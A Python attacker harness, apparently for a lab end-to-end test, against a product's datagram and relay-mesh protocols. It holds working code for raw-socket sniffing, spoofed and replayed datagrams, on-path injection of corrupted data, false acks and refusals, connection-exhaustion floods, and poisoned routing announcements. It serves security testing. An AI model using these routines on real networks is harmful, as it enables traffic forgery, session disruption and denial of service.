"""An attacker on a lab's network, for tests/e2e_long/attacks_netns_test.cpp.

Each command attacks in one way, and prints one line at its end with what it did: NAME=NUMBER each.
The formats are written down here once more, from runtime/fabric/datagram/wire.h, relay/packet.h and
relay/session_message.h: an attacker has read them, and no code of the product is on both sides.
"""
import contextlib
import itertools
import os
import random
import resource
import select
import socket
import struct
import sys
import time

MAGIC = b"\x4e\x48"
PUT, ACK, REFUSE = 1, 3, 7
TYPE, FLAGS, PATH, TOKEN, SEQUENCE, ACKNOWLEDGE, HEADER = 2, 3, 4, 8, 16, 20, 64
FLAG_ACK = 8
FORGED_TTL = 63  # by which the attacker knows its own
DIRECTION = struct.Struct("!4s4sHH")  # of a datagram: from, to, and their ports


def said(**counts):
    print("attacker:", *("%s=%d" % one for one in counts.items()), flush=True)


def datagrams(tap):
    """What goes through an interface of the datagram engine: direction and bytes."""
    while True:
        packet, where = tap.recvfrom(65535)
        at = (packet[0] & 15) * 4
        engine = where[1] == 0x0800 and packet[9] == 17 and packet[at + 8 : at + 10] == MAGIC
        if engine and packet[8] != FORGED_TTL:
            yield packet[12:20] + packet[at : at + 4], packet[at + 8 :]


def tap(interface, to, ready):
    """Shows what goes through an interface to who listens at the socket `to`, as it comes."""
    seen = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
    seen.bind((interface, 3))
    out = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    out.connect(to)
    out.setblocking(False)
    open(ready, "w").close()
    for direction, datagram in datagrams(seen):
        try:
            out.send(direction + datagram)
        except BlockingIOError:
            pass  # what the attacker has no time for is old when it has
        except OSError:
            return


class Forger:
    """Sends datagrams in the name of any host."""

    def __init__(self):
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sent = 0

    def send(self, direction, datagram):
        source, to, port, to_port = DIRECTION.unpack(direction)
        length = len(datagram) + 8
        lengths = (0x45, 0, length + 20, 0, 0, FORGED_TTL, 17, 0)
        header = struct.pack("!BBHHHBBH4s4s", *lengths, source, to)
        udp = struct.pack("!HHHH", port, to_port, length, 0)
        self.raw.sendto(header + udp + datagram, (socket.inet_ntoa(to), 0))
        self.sent += 1


def changed(datagram, at, layout, value):
    out = bytearray(datagram)
    struct.pack_into(layout, out, at, value)
    return out


def number(datagram, at):
    return struct.unpack_from("<I", datagram, at)[0]


def shown_at(path):
    """What a tap shows, until the job is silent: paths have heartbeats."""
    shown = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    shown.bind(path)
    while True:
        packet = shown.recv(65535)
        yield packet[: DIRECTION.size], packet[DIRECTION.size :]
        if not select.select([shown], [], [], 5)[0]:
            return


def off_path(path, amount):
    """Knows the ports and the numbers of paths, and guesses tokens.  Then sends several times what
    went over the cable a while ago."""
    forger = Forger()
    old = list(itertools.islice(shown_at(path), int(amount)))
    for direction, datagram in old:
        token = random.getrandbits(64)
        forger.send(direction, changed(datagram, TOKEN, "<Q", token))
        forger.send(direction, changed(changed(datagram, TOKEN, "<Q", token), TYPE, "B", REFUSE))
        forger.send(direction, changed(datagram, PATH, "<I", random.getrandbits(32)))
    guessed = forger.sent
    for direction, datagram in old * 4:
        forger.send(direction, datagram)
    said(guessed=guessed, replayed=forger.sent - guessed)


def on_path(path, amount, kinds):
    """Sees each packet and is as fast as the next one: writes other bytes than the sender, says
    that what is under way has arrived, or that it is refused, or the same once more."""
    forger = Forger()
    sent = dict.fromkeys(kinds.split(","), 0)
    for direction, datagram in shown_at(path):
        if min(sent.values()) >= int(amount):
            break
        if "put" in sent and datagram[TYPE] == PUT and len(datagram) > 1000:
            garbage = bytearray(datagram)
            for at in range(HEADER + 100, HEADER + 200):
                garbage[at] ^= 255
            for later in range(0, 256, 32):
                place = (number(datagram, SEQUENCE) + later) & 0xFFFFFFFF
                forger.send(direction, changed(garbage, SEQUENCE, "<I", place))
            sent["put"] += 8
        if "ack" in sent and datagram[FLAGS] & FLAG_ACK:
            place = (number(datagram, ACKNOWLEDGE) + 32) & 0xFFFFFFFF
            forger.send(direction, changed(datagram, ACKNOWLEDGE, "<I", place))
            sent["ack"] += 1
        if "refuse" in sent:
            forger.send(direction, changed(datagram, TYPE, "B", REFUSE))
            sent["refuse"] += 1
        if "again" in sent:
            forger.send(direction, datagram)
            sent["again"] += 1
    said(**sent)


class Crowd:
    """Connections to one port that say nothing; who is turned out comes again."""

    def __init__(self, poll, host, port):
        self.poll, self.to = poll, (host, port)
        self.calling, self.held, self.turned_out = {}, {}, 0

    def call(self):
        one = socket.socket()
        one.setblocking(False)
        one.connect_ex(self.to)
        self.calling[one.fileno()] = one
        self.poll.register(one, select.EPOLLOUT)

    def heard(self, fd, events):
        if fd in self.calling and events == select.EPOLLOUT:
            self.held[fd] = self.calling.pop(fd)
            self.poll.modify(fd, select.EPOLLIN)
            return
        self.turned_out += fd in self.held
        one = self.calling.pop(fd, None) or self.held.pop(fd)
        self.poll.unregister(fd)
        one.close()


def crowd(hosts, ports, size, full, ends):
    """Holds `size` connections at each of the ports where somebody listens, from before the job
    begins; makes the file `full` when there is no place left at one port of each host."""
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    poll, hosts = select.epoll(), hosts.split(",")
    first, last = (int(port) for port in ports.split("-"))
    crowds = [Crowd(poll, host, port) for host in hosts for port in range(first, last + 1)]
    held, doors = 0, 0
    while not all(os.path.exists(end) for end in ends.split(",")):
        for one in crowds:
            free = int(size) - len(one.held) - len(one.calling)
            for _ in range(min(free, 4) if one.held else 1 - len(one.calling)):
                one.call()
        for fd, events in poll.poll(0.02):
            for one in crowds:
                if fd in one.calling or fd in one.held:
                    one.heard(fd, events)
                    break
        taken = [one for one in crowds if len(one.held) >= 256]
        held, doors = max([held] + [len(one.held) for one in taken]), max(doors, len(taken))
        if {one.to[0] for one in taken} == set(hosts):
            open(full, "w").close()
    said(held=held, turned_out=sum(one.turned_out for one in crowds), doors=doors)


MESH_PORT = 18740
HELLO, STATES, SUMMARY, REQUEST = 1, 2, 3, 4
SETUP, REFUSAL = 1, 3
OUTSIDER, ASKER, NEXT = 0xBAD1, 0xBAD2, 0xBAD3  # names that the attacker has invented
PACKET = struct.Struct("<IBBHQII")
SESSION = struct.Struct("<IBBH")
VERSION = 6  # session_version
PING = SESSION.pack(0x5348414E, VERSION, 4, SESSION.size)


def cable():
    return next(one for one in sorted(os.listdir("/sys/class/net")) if one not in ("lo", "mgmt"))


class Intruder:
    """A host on a cable of a relay; nobody has given it a key."""

    def __init__(self):
        self.interface = cable()
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
        self.socket.bind(("", MESH_PORT))
        index = socket.if_nametoindex(self.interface)
        group = struct.pack("4s4si", socket.inet_aton("224.0.0.254"), bytes(4), index)
        self.socket.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)
        self.relay, self.at = None, None
        self.numbers = {}  # of hosts' link states
        self.hellos = 0
        self.asked = 0

    def say(self, sender, kind, body):
        packet = PACKET.pack(0x4D48414E, 3, kind, PACKET.size + len(body), sender, 1, 5) + body
        self.asked += self.socket.sendto(packet, self.at)

    def greet(self, sender, heard):
        self.hellos += 1
        body = struct.pack("<QHHBHQB", self.hellos, 500, 60000, 0, 0, 0, len(heard))
        self.say(sender, HELLO, body + b"".join(struct.pack("<QII", *one) for one in heard))

    def hear(self, seconds):
        end = time.monotonic() + seconds
        while select.select([self.socket], [], [], max(0, end - time.monotonic()))[0]:
            packet, at = self.socket.recvfrom(2000)
            _, _, kind, _, sender, incarnation, interface = PACKET.unpack_from(packet)
            if kind == HELLO:
                self.relay, self.at = (sender, incarnation, interface), at
            for place in range(PACKET.size + 17, len(packet), 16) if kind == SUMMARY else ():
                origin, sequence = struct.unpack_from("<QQ", packet, place)
                self.numbers[origin] = sequence

    def answered(self, seconds):
        """Bytes that come, besides what the socket has no room for."""
        with open("/sys/class/net/%s/statistics/rx_bytes" % self.interface) as counter:
            before = int(counter.read())
            self.hear(seconds)
            counter.seek(0)
            return int(counter.read()) - before

    def ask(self, sender, times):
        """For as much as a packet may ask for."""
        for _ in range(times):
            self.say(sender, REQUEST, struct.pack("<B160Q", 160, *[self.relay[0]] * 160))

    def lie(self, origin, number):
        """That a host has no cables."""
        state = struct.pack("<QQIBB4sBB", origin, number, 600000, 1, 4, b"liar", 0, 0)
        self.say(ASKER, STATES, struct.pack("<BH", 1, len(state)) + state)


class Setup:
    """A request for a path over the relay, which ends at a port of the attacker's."""

    def __init__(self, host, port, nodes, place):
        self.stream = socket.create_connection((host, MESH_PORT))
        ends = struct.pack("<HHI4s12x", 4, 9, 0, bytes([198, 18, 0, 9]))
        hop = ends + struct.pack("<HHQIIIIII12x", 4, 9, 1, 1, 1500, 1 << 20, 64, 768, 0)
        body = struct.pack("<QBB", random.getrandbits(64), place, len(nodes))
        body += struct.pack("<%dQ" % len(nodes), *nodes)
        body += struct.pack("<HQ36xIB", port, 1, 65536, 1)  # no ticket
        body += struct.pack("<QIIHH", 4096, 3, 65536 + 80, 64, len(hop)) + hop
        self.send(SETUP, body)
        self.text = ""

    def send(self, kind, body=b""):
        self.stream.sendall(SESSION.pack(0x5348414E, VERSION, kind, SESSION.size + len(body)) + body)

    def refused(self):
        """Whether it has been; what was said is in `text` then."""
        while not self.text and select.select([self.stream], [], [], 0)[0]:
            message = self.stream.recv(4096)
            if not message or message[5] == REFUSAL:
                self.text = str(message[SESSION.size + 11 :]) or "closed"
        return bool(self.text)


def mesh(sessions, attacked, ends):
    """Against a relay without a key: asks as an outsider and as a neighbour, lies in the names of
    all hosts, and holds as many paths as it gets, in the names of hosts that it has invented."""
    one = Intruder()
    while one.relay is None:
        one.hear(0.1)
    one.greet(OUTSIDER, [])
    one.ask(OUTSIDER, 200)
    outsider, outsider_asked = one.answered(1), one.asked
    while len(one.numbers) < 3:
        one.greet(ASKER, [one.relay])
        one.greet(NEXT, [one.relay])
        one.hear(0.2)
    begun, one.asked = time.monotonic(), 0
    one.ask(ASKER, 1000)
    neighbour, asked = one.answered(1), one.asked
    took = time.monotonic() - begun
    known = dict(one.numbers)
    for origin, number in known.items():
        one.lie(origin, 1 << 62)
        one.lie(origin, number + (1 << 31))
    doors = socket.create_server(("", 0), backlog=1024)
    port, relay, host = doors.getsockname()[1], one.relay[0], one.at[0]
    other = next(node for node in known if node != relay)
    wrong = [Setup(host, 22, [OUTSIDER, relay, other], 1), Setup(host, 22, [ASKER, relay, 4711], 1)]
    holds = [Setup(host, port, [i + 1, ASKER, relay, NEXT], 2) for i in range(int(sessions))]
    held, dialled = 0, []
    while not all(os.path.exists(end) for end in ends.split(",")):
        one.greet(ASKER, [one.relay])
        one.greet(NEXT, [one.relay])
        one.hear(0.2)
        while select.select([doors], [], [], 0)[0]:
            dialled.append(doors.accept()[0])
        open_now = [hold for hold in holds if not hold.refused()]
        for stream in [hold.stream for hold in open_now] + dialled:
            with contextlib.suppress(OSError):
                stream.sendall(PING)
        if not os.path.exists(attacked) and len(dialled) >= len(open_now):
            held = len(open_now)
            open(attacked, "w").close()
    texts = [hold.text for hold in wrong if hold.refused()]
    said(outsider_asked=outsider_asked, outsider_answered=outsider, asked=asked, answered=neighbour,
         took_ms=took * 1000, lies=2 * len(known), held=held, refused=len(holds) - held,
         unknown_names=sum("no neighbour at that address" in text for text in texts),
         no_cables=sum("no cable leads" in text for text in texts))


def again(enough, recorded, ready, ends):
    """Records what this host says on its cable until there is a file `recorded`, hellos, link
    states and goodbyes, and makes a file `enough` when there are some; says all of it again from when there is a file `ready`."""
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    link.bind((cable(), 3))
    frames, sent = [], 0
    while not os.path.exists(recorded):
        if select.select([link], [], [], 0.05)[0]:
            frame, where = link.recvfrom(2000)
            if where[2] == socket.PACKET_OUTGOING and where[1] == 0x0800 and frame[23] == 17:
                frames.append(changed(frame, 40, "H", 0))  # the NIC would have put the check sum
        if len(frames) >= 4:
            open(enough, "w").close()
    link.close()
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind((cable(), 0))
    while not all(os.path.exists(end) for end in ends.split(",")):
        if os.path.exists(ready):
            sent += sum(link.send(frame) > 0 for frame in frames)
        select.select([], [], [], 0.01)
    said(recorded=len(frames), repeated=sent)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
